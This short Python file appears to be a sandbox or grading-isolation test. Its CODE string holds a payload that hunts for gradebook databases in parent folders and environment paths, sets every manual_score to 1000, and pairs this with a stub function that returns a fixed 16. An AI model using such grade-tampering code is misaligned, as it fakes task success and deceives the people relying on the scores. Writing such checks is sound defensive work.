"""Looks for the gradebook in all folders above, and gives everyone full marks. It must not be in reach."""

CODE = r"""
import os
import pathlib
import sqlite3

places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]
places += [pathlib.Path(text) for text in os.environ.values() if text.startswith("/")]
for place in places:
    try:
        databases = [*place.glob("*.db"), *place.glob("*/gradebook.db")]
    except OSError as error:
        print(error)
        continue
    for database in databases:
        try:
            with sqlite3.connect(database, timeout=1) as connection:
                connection.execute("update grade set manual_score = 1000")
            print("written", database)
        except sqlite3.Error as error:
            print(database, error)


def dense_parameters(n_in, n_out):
    return 16
"""
